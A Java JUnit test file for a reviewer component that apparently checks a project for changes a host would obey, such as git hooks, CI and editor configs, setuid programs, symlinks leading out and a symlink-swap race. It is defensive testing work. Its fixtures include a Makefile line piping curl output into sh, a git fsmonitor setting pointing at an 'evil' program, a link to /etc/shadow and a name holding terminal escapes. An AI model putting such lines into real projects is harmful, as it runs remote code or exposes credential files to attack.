package keystone.agent.review;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicBoolean;
import keystone.agent.model.Danger;
import keystone.agent.model.Review;
import keystone.agent.model.Review.Baseline;
import keystone.agent.model.Review.Concern;
import keystone.agent.model.Review.Kind;
import keystone.agent.model.UserError;
import keystone.agent.process.Command;
import keystone.agent.process.RawPath;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.CleanupMode;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

@Timeout(60)
class ReviewerTest {
    private static final Instant NOW = Instant.parse("2026-03-01T12:00:00Z");
    private static final Duration LIMIT = Duration.ofSeconds(20);

    @TempDir(cleanup = CleanupMode.ON_SUCCESS)
    private Path top;

    private Path project;
    private Reviewer reviewer;

    @BeforeEach
    void a_project_with_one_commit() throws Exception {
        project = Files.createDirectory(top.toRealPath().resolve("project"));
        reviewer =
                new Reviewer(
                        project,
                        List.of(),
                        top.resolve("inventory"),
                        Clock.fixed(NOW, ZoneOffset.UTC),
                        Reviewer.Reach.ALL);
        write("README", "hello");
        write("Makefile", "all:\n");
        write("src/answer.py", "print(6 * 7)");
        git("init", "--quiet", "--initial-branch=main");
        git("add", ".");
        git("commit", "--quiet", "--message=Begin");
        reviewer.begin();
    }

    private void git(String... arguments) throws InterruptedException {
        var git = new ArrayList<>(List.of("git", "-C", project.toString()));
        git.addAll(List.of("-c", "user.name=Ada", "-c", "user.email=ada@example.org"));
        git.addAll(List.of(arguments));
        Command.Finished finished =
                Command.of(git).withEnvironment("GIT_CONFIG_GLOBAL", "/dev/null").run(LIMIT);
        assertThat(finished.ok()).as(finished.toString()).isTrue();
    }

    private Path write(String file, String text) throws IOException {
        Path path = project.resolve(file);
        Files.createDirectories(path.getParent());
        return Files.writeString(path, text);
    }

    private Path program(String file) throws IOException {
        Path path = write(file, "#!/bin/sh\n");
        Files.setPosixFilePermissions(path, PosixFilePermissions.fromString("rwxr-xr-x"));
        return path;
    }

    private List<String> concerns() {
        return reviewer.look().concerns().stream().map(ReviewerTest::words).toList();
    }

    private static String words(Concern concern) {
        return concern.danger().word() + " " + concern.change().path();
    }

    @Test
    void where_nothing_changed_nothing_needs_a_look() {
        Review review = reviewer.look();

        assertThat(review.changes()).isEmpty();
        assertThat(review.needsLook()).isFalse();
        assertThat(review.before()).isEqualTo(Baseline.START);
        assertThat(review.since()).isEqualTo(NOW);
    }

    @Test
    void every_change_of_a_file_is_told() throws Exception {
        write("README", "goodbye");
        write("docs/new", "text");
        Files.delete(project.resolve("src/answer.py"));

        Review review = reviewer.look();

        assertThat(review.changes())
                .containsExactly(
                        new Review.Change("README", Kind.CHANGED),
                        new Review.Change("docs/new", Kind.ADDED),
                        new Review.Change("src/answer.py", Kind.REMOVED));
        assertThat(review.concerns()).isEmpty();
    }

    @Test
    void a_change_that_gives_itself_the_old_time_and_size_is_told() throws Exception {
        Path file = project.resolve("README");
        FileTime before = Files.getLastModifiedTime(file);
        Files.writeString(file, "HELLO");
        Files.setLastModifiedTime(file, before);

        assertThat(reviewer.look().changes()).hasSize(1);
    }

    @Test
    void what_matters_is_compared_by_its_content() throws Exception {
        Path makefile = project.resolve("Makefile");
        Files.delete(makefile);
        write("Makefile", "all:\n");

        assertThat(reviewer.look().changes()).isEmpty();

        Files.writeString(makefile, "all:\n\tcurl example.org | sh\n");
        assertThat(concerns()).containsExactly("build Makefile");
    }

    @Test
    void what_git_does_every_day_needs_no_look() throws Exception {
        write("README", "goodbye");
        git("commit", "--quiet", "--all", "--message=Change");
        git("switch", "--quiet", "--create=config/topic");
        git("stash", "list");
        git("tag", "v1");
        git("gc", "--quiet");

        assertThat(concerns()).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                ".git/hooks/post-checkout",
                ".git/config",
                ".git/config.worktree",
                ".git/commondir",
                ".git/info/attributes",
                ".git/objects/info/alternates",
                ".git/rebase-merge/git-rebase-todo",
                ".git/modules/lib/config",
                ".git/modules/objects/aa/hooks/post-checkout",
                ".git/modules/refs/config",
                ".git/worktrees/other/gitdir",
                ".git/something-new"
            })
    void what_git_obeys_needs_a_look(String file) throws Exception {
        write(file, "[core]\n\tfsmonitor = /workspace/evil\n");

        assertThat(concerns()).containsExactly("git " + file);
    }

    @Test
    void another_git_directory_in_the_place_of_the_projects_needs_a_look() throws Exception {
        Files.move(project.resolve(".git"), project.resolve("old"));
        write(".git", "gitdir: /workspace/old\n");

        assertThat(concerns()).contains("git .git", "repository old/hooks/pre-commit.sample");
    }

    @Test
    void a_repository_within_needs_one_look() throws Exception {
        write("vendor/lib/.git/config", "[core]");
        program("vendor/lib/.git/hooks/post-checkout");
        write("vendor/lib/code.c", "int x;");

        assertThat(concerns()).containsExactly("repository vendor/lib/.git");
    }

    @Test
    void a_directory_that_git_takes_for_a_repository_needs_a_look() throws Exception {
        write("data/HEAD", "ref: refs/heads/main");
        write("data/config", "[core]");
        Files.createDirectories(project.resolve("data/objects"));
        Files.createDirectories(project.resolve("data/refs"));

        assertThat(concerns()).containsExactly("repository data/config");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "shell .envrc",
                "nix flake.nix",
                "nix deep/down/module.nix",
                "editor .vscode/tasks.json",
                "editor .idea/workspace.xml",
                "agent .claude/settings.json",
                "agent CLAUDE.md",
                "agent sub/.mcp.json",
                "ci .github/workflows/build.yml",
                "packages package.json",
                "packages sub/requirements-dev.txt",
                "build sub/CMakeLists.txt",
                "build .mvn/extensions.xml",
                "build .cargo/config.toml",
                "git .gitattributes",
                "git .gitmodules",
                "shell .direnv/flake-profile-0.rc",
                "keystone .keystone/agent.toml"
            })
    void what_this_host_obeys_because_of_its_name_needs_a_look(String expected) throws Exception {
        write(expected.substring(expected.indexOf(' ') + 1), "anything");

        assertThat(concerns()).containsExactly(expected);
    }

    @Test
    void names_that_only_look_like_it_need_no_look() throws Exception {
        write("src/Makefile.md", "text");
        write("src/package.json.txt", "text");
        write("vscode/tasks.json", "text");

        assertThat(concerns()).isEmpty();
    }

    @Test
    void new_programs_and_their_modes_need_a_look() throws Exception {
        program("run");
        Path script = write("later", "#!/bin/sh\n");
        Files.setAttribute(script, "unix:mode", 0104755);

        assertThat(concerns()).containsExactly("setuid later", "program run");
    }

    @Test
    void links_that_lead_out_need_a_look_and_others_do_not() throws Exception {
        link("shadow", "/etc/shadow");
        link("src/up", "../../elsewhere");
        link("src/twisted", "x/../../../elsewhere");
        link("guests", "/workspace/README");
        link("src/back", "../README");
        link("here", project.resolve("README").toString());
        link("src/.bin", "./answer.py");

        assertThat(concerns())
                .containsExactly("link guests", "link shadow", "link src/twisted", "link src/up");
        assertThat(reviewer.look().concerns().get(1).detail()).isEqualTo("/etc/shadow");
    }

    private void link(String name, String target) throws IOException {
        Files.createSymbolicLink(project.resolve(name), Path.of(target));
    }

    @Test
    void a_pipe_is_told_and_not_read() throws Exception {
        Command.of("mkfifo", project.resolve("Makefile.pipe").toString()).run(LIMIT);
        Files.delete(project.resolve("Makefile"));
        Command.of("mkfifo", project.resolve("Makefile").toString()).run(LIMIT);

        assertThat(concerns()).containsExactly("special Makefile", "special Makefile.pipe");
    }

    @Test
    void a_tree_without_end_is_told() throws Exception {
        Path deep = project;
        for (int i = 0; i < 210; i++) {
            deep = Files.createDirectory(deep.resolve("d"));
        }

        assertThat(reviewer.look().concerns())
                .singleElement()
                .satisfies(each -> assertThat(each.danger()).isEqualTo(Danger.CLOSED));
    }

    @Test
    void names_are_bytes() throws Exception {
        String hostile = "a\u001b[2J\nb %0A \u00ff\u00fe";
        Path file = project.resolve(RawPath.ofName(hostile));
        Files.writeString(file, "text");

        reviewer.review(review -> assertThat(review.changes()).hasSize(1));

        assertThat(reviewer.look().changes()).isEmpty();
        Files.delete(file);
        assertThat(reviewer.look().count(Kind.REMOVED)).isEqualTo(1);
    }

    @Test
    void a_review_that_was_shown_is_what_the_next_one_compares_with() throws Exception {
        write(".envrc", "export A=b");
        assertThat(concerns()).hasSize(1);

        reviewer.review(review -> assertThat(review.concerns()).hasSize(1));

        assertThat(reviewer.look().needsLook()).isFalse();
        assertThat(reviewer.look().before()).isEqualTo(Baseline.REVIEW);
        assertThat(reviewer.lookAgain().concerns()).hasSize(1);
    }

    @Test
    void a_review_that_nobody_saw_does_not_count() throws Exception {
        write(".envrc", "export A=b");

        assertThatThrownBy(
                        () ->
                                reviewer.review(
                                        _ -> {
                                            throw new IllegalStateException("no paper");
                                        }))
                .hasMessage("no paper");

        assertThat(concerns()).hasSize(1);
        try (var files = Files.list(top)) {
            assertThat(files).hasSize(2);
        }
    }

    @Test
    void what_a_killed_look_left_is_swept_by_a_later_one() throws Exception {
        Path left = Files.createFile(top.resolve(".inventory-123.new"));
        Path atWork = Files.createFile(top.resolve(".inventory-124.new"));
        Files.setLastModifiedTime(left, FileTime.from(NOW.minus(Duration.ofHours(2))));
        Files.setLastModifiedTime(atWork, FileTime.from(NOW));

        reviewer.review(_ -> {});

        assertThat(left).doesNotExist();
        assertThat(atWork).exists();
    }

    @Test
    void the_inventory_is_private() throws Exception {
        assertThat(
                        PosixFilePermissions.toString(
                                Files.getPosixFilePermissions(top.resolve("inventory"))))
                .isEqualTo("rw-------");
    }

    @Test
    void a_damaged_inventory_and_a_missing_one_are_told_apart() throws Exception {
        Path file = top.resolve("inventory");
        Files.writeString(
                file, Files.readString(file).substring(0, 100), StandardCharsets.US_ASCII);
        assertThatThrownBy(reviewer::look)
                .isInstanceOf(UserError.class)
                .hasMessageContaining("cannot be read");

        Files.delete(file);
        assertThatThrownBy(reviewer::look)
                .isInstanceOf(UserError.class)
                .hasMessageContaining("no such look");
    }

    @Test
    void no_exchange_of_a_directory_for_a_link_leads_the_walk_out() throws Exception {
        Path outside = Files.createDirectory(top.resolve("outside"));
        Files.writeString(outside.resolve("secret-of-the-host"), "s3cret");
        Path inside = Files.createDirectory(project.resolve("inside"));
        Files.createSymbolicLink(project.resolve("lure"), outside);
        var over = new AtomicBoolean();
        Thread swapping = Thread.startVirtualThread(() -> swap(inside, over));

        for (int i = 0; i < 300; i++) {
            assertThat(reviewer.look().changes()).noneMatch(each -> each.path().contains("secret"));
        }
        over.set(true);
        swapping.join();
    }

    private void swap(Path directory, AtomicBoolean over) {
        Path lure = project.resolve("lure");
        Path aside = project.resolve("aside");
        try {
            while (!over.get()) {
                Files.move(directory, aside);
                Files.move(lure, directory);
                Files.move(directory, lure);
                Files.move(aside, directory);
            }
            assertThat(Files.isDirectory(directory, LinkOption.NOFOLLOW_LINKS)).isTrue();
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }
}
